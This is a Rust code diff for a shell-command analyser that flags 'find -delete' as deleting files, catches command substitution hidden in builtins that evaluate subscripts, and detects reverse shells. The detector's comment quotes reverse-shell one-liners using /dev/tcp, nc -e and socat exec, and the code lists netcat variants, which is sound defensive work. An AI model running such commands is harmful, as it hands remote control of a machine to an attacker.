@@ -491,12 +491,22 @@ impl Walker {
             kept.push(a.clone());
             k += 1;
         }
-        let mut programs = self.emit(&kept, &extras, &via);
         let roots: Vec<&str> = args
             .iter()
             .take_while(|a| !a.starts_with('-') && *a != "(" && *a != "!")
             .map(String::as_str)
             .collect();
+        let mut extras = extras;
+        if args.iter().any(|a| a == "-delete") {
+            // `find DIR ... -delete` deletes (some of) what lies under each starting point.
+            let starts: Vec<&str> = if roots.is_empty() { vec!["."] } else { roots.clone() };
+            for root in starts {
+                extras
+                    .files
+                    .push((Access::Write, format!("{}/*", root.trim_end_matches('/'))));
+            }
+        }
+        let mut programs = self.emit(&kept, &extras, &via);
         let mut i = 0;
         while i < args.len() {
             if matches!(args[i].as_str(), "-exec" | "-execdir" | "-ok" | "-okdir") {
@@ -601,6 +611,19 @@ impl Walker {
             _ => {}
         }
         self.note_written(&program, &parsed, &files, extras);
+        if reverse_shell(&program, &parsed, &args, &files) {
+            self.construct(Construct::ReverseShell);
+        }
+        if evaluates_names(&program, &parsed) {
+            // `let 'x=a[$(cmd)]'`, `printf -v 'a[$(cmd)]'`, `test -v`, `read v <<< '...'`: these
+            // builtins evaluate subscripts and arithmetic, so quoted `$(...)` in them runs.
+            let texts: Vec<String> = args.iter().cloned().chain(extras.stdin.clone()).collect();
+            for text in texts {
+                if text.contains("$(") || text.contains('`') {
+                    self.assign("_", &text, 0, via);
+                }
+            }
+        }
         let runs_stdin = std::mem::take(&mut self.stdin_runs);
         let mutates = parsed.chain.iter().any(|s| s.mutates);
         let mut command = SimpleCommand {
@@ -650,6 +673,43 @@ impl Walker {
                 self.written.insert(key, content.clone());
             }
         }
+    }
+}
+
+/// Builtins that evaluate variable names, subscripts or arithmetic in their arguments.
+fn evaluates_names(program: &str, parsed: &ParsedArgs) -> bool {
+    match program {
+        "let" | "read" | "test" | "[" | "[[" | "declare" | "typeset" | "local" | "export" | "readonly" | "unset"
+        | "mapfile" | "readarray" | "eval" | "exit" | "return" | "shift" | "kill" => true,
+        "printf" => parsed.flags.iter().any(|f| f.name == "v"),
+        _ => false,
+    }
+}
+
+/// A shell or interpreter whose streams go to a network socket, or a network tool told to run
+/// a program on its connection: `bash -i >& /dev/tcp/h/p 0>&1`, `nc -e /bin/sh h p`,
+/// `socat tcp:h:p exec:sh`.
+fn reverse_shell(program: &str, parsed: &ParsedArgs, args: &[String], files: &[(Access, String)]) -> bool {
+    let socket_stream = files
+        .iter()
+        .any(|(_, f)| f.starts_with("/dev/tcp/") || f.starts_with("/dev/udp/"));
+    let runs_code = parsed.chain.iter().any(|s| s.code.is_some()) || matches!(program, "exec" | "sh" | "bash");
+    if socket_stream && runs_code {
+        return true;
+    }
+    match program {
+        "nc" | "ncat" | "netcat" | "nc.openbsd" | "nc.traditional" | "pwncat" => parsed
+            .flags
+            .iter()
+            .any(|f| matches!(f.name.as_str(), "exec" | "sh-exec" | "lua-exec" | "e" | "c")),
+        "socat" => {
+            let text = args.join(" ").to_ascii_lowercase();
+            (text.contains("exec:") || text.contains("system:"))
+                && ["tcp", "udp", "ssl", "openssl", "sctp"]
+                    .iter()
+                    .any(|n| text.contains(n))
+        }
+        _ => false,
     }
 }
 
